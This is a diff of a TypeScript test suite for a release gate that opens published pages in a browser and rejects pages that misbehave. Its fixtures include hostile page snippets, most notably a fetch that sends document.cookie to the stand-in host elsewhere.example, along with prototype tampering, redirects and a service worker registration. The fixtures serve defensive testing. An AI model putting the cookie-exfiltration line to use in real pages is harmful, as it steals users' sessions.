@@ -7,13 +7,15 @@ import { buildFoundedSite } from '../testing/build-published-site.ts';
 import { loadPages } from '../testing/load-pages.ts';
 import { readNewest } from '../testing/read-switches.ts';
 import { refusalOf } from '../testing/tamper.ts';
-import { pagesComeAliveWithin } from './browser-rule.ts';
+import { pagesComeAlive, pagesComeAliveWithin } from './browser-rule.ts';
 import { gateRules } from './gate.ts';
 
 const operator = { remote: 'mf-agents', by: 'anna', reason: 'test' };
 /** The gate with less patience, so that a page that hangs does not hold the test up. */
-const impatient = pagesComeAliveWithin({ page: 2000, all: 8000 });
+const impatient = pagesComeAliveWithin({ page: 1000, all: 4000 });
 const rules = gateRules.map((rule) => (rule.id === impatient.id ? impatient : rule));
+/** Where no browser is, the rule alone says so, and no page is rendered. */
+const tried = [pagesComeAlive];
 let store: ReleaseStore;
 
 beforeEach(async () => {
@@ -27,11 +29,17 @@ const container = (code: string): DistOverrides => ({ files: { 'browser/remoteEn
 const showing = (child: string) =>
   `return () => jsx('div', { children: [jsx('h1', { children: route.title }, 1), ${child}] });`;
 
+interface PageCode {
+  path?: string;
+  browser: string;
+  server: string;
+}
+
 /** A release of several pages, by the code that loads each in a browser and on the server. */
-function pages(codes: readonly { browser: string; server: string }[]): DistOverrides {
-  const routes = codes.map((_, index) => ({ path: `/my-agent/${index}`, title: `Page ${index}` }));
+function pages(codes: readonly PageCode[]): DistOverrides {
+  const routes = codes.map(({ path }, index) => ({ path: path ?? `/my-agent/${index}`, title: `Page ${index}` }));
   const loadBy = (side: 'browser' | 'server') =>
-    codes.map((code, index) => `if (route.path === '/my-agent/${index}') { ${code[side]} }`).join(' ');
+    codes.map((code, index) => `if (route.path === '${routes[index]?.path}') { ${code[side]} }`).join(' ');
   const server = `const { jsx } = require('react/jsx-runtime');
 exports.routes = ${JSON.stringify(routes)}.map((route) => ({ ...route, load: async () => { ${loadBy('server')} } }));`;
   const container = buildContainer(routes, { load: loadBy('browser') });
@@ -53,41 +61,39 @@ const hostile: [string, DistOverrides, RegExp][] = [
   ['has a page that throws as it loads', page('throw new Error("no data");'), /failed \(load\).*no data/],
   ['has a page that throws as it renders', page('return () => { throw new Error("no window"); };'), /no window/],
   ['has a page that never mounts', page('return new Promise(() => {});'), /does not come alive|failed \(timeout\)/],
-  [
-    'renders another page than the server',
-    page("return () => jsx('h1', { children: 'Something else' });"),
-    /hydration did not match/,
-  ],
-  [
-    'replaces what every list has',
-    page(`Array.prototype.map = function () { return []; }; ${good}`),
-    /changes Array\.prototype\.map of the browser/,
-  ],
-  [
-    'sends what it finds to another host',
-    page(`void fetch('https://elsewhere.example/' + document.cookie); ${good}`),
-    /'https:\/\/elsewhere\.example\/' violates the following Content Security Policy directive/,
-  ],
-  ['writes into the document', page(`document.write('mine'); ${good}`), /calls document\.write/],
-  ['opens a dialog', page(`alert('hello'); ${good}`), /calls window\.alert|opens a dialog/],
   ['leads away', page(`location.href = 'https://elsewhere.example/'; ${good}`), /leads away to/],
   [
     'registers a service worker',
     page(`navigator.serviceWorker.register('/mine.js'); ${good}`),
     /calls navigator\.serviceWorker\.register|failed \(load\)/,
   ],
-  ['says an error on the console', page(`console.error('broken'); ${good}`), /says on the console: broken/],
+];
+
+/** What a page does that comes alive all the same, and what is said of it. */
+const alive: [string, string, RegExp][] = [
   [
-    'leaves a promise rejected',
-    page(`Promise.reject(new Error('lost')); ${good}`),
-    /rejected: Error: lost|throws.*lost/,
+    'renders another page than the server',
+    "return () => jsx('h1', { children: 'Something else' });",
+    /hydration did not match/,
   ],
   [
-    'does it a moment after it came alive',
-    page(
-      `return () => { React.useEffect(() => void setTimeout(() => alert(1), 20), []); return jsx('h1', { children: route.title }); };`,
-    ),
-    /calls window\.alert|opens a dialog/,
+    'replaces what every list has',
+    `Array.prototype.map = function () { return []; }; ${good}`,
+    /changes Array\.prototype\.map of the browser/,
+  ],
+  [
+    'sends what it finds to another host',
+    `void fetch('https://elsewhere.example/' + document.cookie); ${good}`,
+    /'https:\/\/elsewhere\.example\/' violates the following Content Security Policy directive/,
+  ],
+  ['writes into the document', `document.write('mine'); ${good}`, /calls document\.write/],
+  ['opens a dialog', `alert('hello'); ${good}`, /calls window\.alert|opens a dialog/],
+  ['says an error on the console', `console.error('broken'); ${good}`, /says on the console: broken/],
+  ['leaves a promise rejected', `Promise.reject(new Error('lost')); ${good}`, /rejected: Error: lost|throws.*lost/],
+  [
+    'asks a moment after it came alive',
+    `return () => { React.useEffect(() => void setTimeout(() => confirm('now'), 20), []); return jsx('h1', { children: route.title }); };`,
+    /calls window\.confirm|opens a dialog/,
   ],
 ];
 
@@ -98,9 +104,12 @@ const platformOf = (browser: string | undefined = 'require') => ({
 });
 
 describe('the gate rule "browser"', () => {
-  it('lets a release pass whose pages come alive, and says what they were tried in', async () => {
-    const routes = [{}, { path: '/agents/:agentName' }];
-    const id = await buildPublished(store, { routes });
+  it('lets a release pass whose pages come alive, also with styles of their own, and says what they were tried in', async () => {
+    const plain = { browser: good, server: good };
+    // Header and footer stay where they are.
+    const styles = showing("jsx('style', { children: 'h1 { color: red } main header { display: none }' }, 2)");
+    const own = { browser: styles, server: styles };
+    const id = await buildPublished(store, pages([plain, { ...plain, path: '/agents/:agentName' }, own]));
     const { outcome, notes } = await activateRelease(platformOf(), { ...operator, id });
     expect(outcome).toBe('changed');
     expect(notes).toEqual([expect.stringMatching(/^browser step: Chromium( without its own sandbox)?$/)]);
@@ -139,22 +148,30 @@ describe('the gate rule "browser"', () => {
     ]);
   });
 
+  it('names each page of a release that comes alive and harms somebody', async () => {
+    const id = await buildPublished(store, pages(alive.map(([, browser]) => ({ browser, server: good }))));
+    const { findings } = await refusalOf(activateRelease(platformOf(), { ...operator, id }));
+    const problemsOf = (index: number) => {
+      const own = findings.filter(({ problem }) => problem.startsWith(`The page /my-agent/${index} `));
+      return own.map(({ rule, problem }) => `${rule}: ${problem}`).join('\n');
+    };
+    expect(alive.map(([name], index) => [name, problemsOf(index)])).toEqual(
+      alive.map(([name, , words]) => [name, expect.stringMatching(new RegExp(`^browser: .*(?:${words.source})`, 's'))]),
+    );
+    expect(await readNewest(store)).toBeNull();
+  });
+
   it('gives pages more time on a machine that is slow with its own page, too', async () => {
     const host = await loadPages();
     const slow = Object.create(host, { isAlive: { value: `performance.now() > 1500 && ${host.isAlive}` } });
-    const hasty = pagesComeAliveWithin({ page: 1000, all: 4000 });
     const platform = {
       ...buildPlatform(store),
       policy: { ...testPolicy, browsing: { loadPages: async () => slow, browser: 'require' } },
     };
     const id = await buildPublished(store);
-    expect(await activateRelease(platform, { ...operator, id, rules: [hasty] })).toMatchObject({ outcome: 'changed' });
-  });
-
-  it('lets a page have styles of its own, which leave header and footer where they are', async () => {
-    const code = showing("jsx('style', { children: 'h1 { color: red } main header { display: none }' }, 2)");
-    const id = await buildPublished(store, pages([{ browser: code, server: code }]));
-    expect(await activateRelease(platformOf(), { ...operator, id, rules })).toMatchObject({ outcome: 'changed' });
+    expect(await activateRelease(platform, { ...operator, id, rules: [impatient] })).toMatchObject({
+      outcome: 'changed',
+    });
   });
 
   it('refuses where the site requires a browser and the named one is not there, or does not start', async () => {
@@ -164,7 +181,7 @@ describe('the gate rule "browser"', () => {
       '/bin/true': '/bin/true does not start',
     };
     for (const [browser, why] of Object.entries(named)) {
-      const refusal = await refusalOf(activateRelease(platformOf(browser), { ...operator, id }));
+      const refusal = await refusalOf(activateRelease(platformOf(browser), { ...operator, id, rules: tried }));
       expect(refusal.findings).toMatchObject([{ rule: 'browser', problem: expect.stringContaining(why) }]);
       expect(refusal.message).toContain(`Gate: browser step: missing, as ${why}`);
     }
@@ -174,7 +191,8 @@ describe('the gate rule "browser"', () => {
     const browsing = { loadPages, places: ['/no/such/chromium'] };
     const platform = { ...buildPlatform(store), policy: { ...testPolicy, browsing } };
     const missing = 'browser step: missing, as no Chromium, Chrome or Edge is installed here: no page was opened';
-    const { outcome, notes } = await activateRelease(platform, { ...operator, id: await buildPublished(store) });
+    const first = { ...operator, id: await buildPublished(store), rules: tried };
+    const { outcome, notes } = await activateRelease(platform, first);
     expect({ outcome, notes }).toEqual({ outcome: 'changed', notes: [missing] });
     const files = { 'server/remote.cjs': 'exports.routes = [];' };
     const broken = await buildPublished(store, { version: '1.1.0', files });
@@ -183,14 +201,15 @@ describe('the gate rule "browser"', () => {
     expect(message.endsWith(`\n  Gate: ${missing}.`)).toBe(true);
     const required = { ...platform, policy: { ...testPolicy, browsing: { ...browsing, browser: 'require' } } };
     const id = await buildPublished(store, { version: '1.2.0' });
-    const refusal = await refusalOf(activateRelease(required, { ...operator, id }));
+    const refusal = await refusalOf(activateRelease(required, { ...operator, id, rules: tried }));
     expect(refusal.findings).toMatchObject([
       { rule: 'browser', problem: 'No browser could try the pages: no Chromium, Chrome or Edge is installed here.' },
     ]);
   });
 
   it('says that it tried nothing where the host gives no pages', async () => {
-    const { notes } = await activateRelease(buildPlatform(store), { ...operator, id: await buildPublished(store) });
+    const request = { ...operator, id: await buildPublished(store), rules: tried };
+    const { notes } = await activateRelease(buildPlatform(store), request);
     expect(notes).toEqual(['browser step: none, as this host gives no pages to try']);
   });
 });
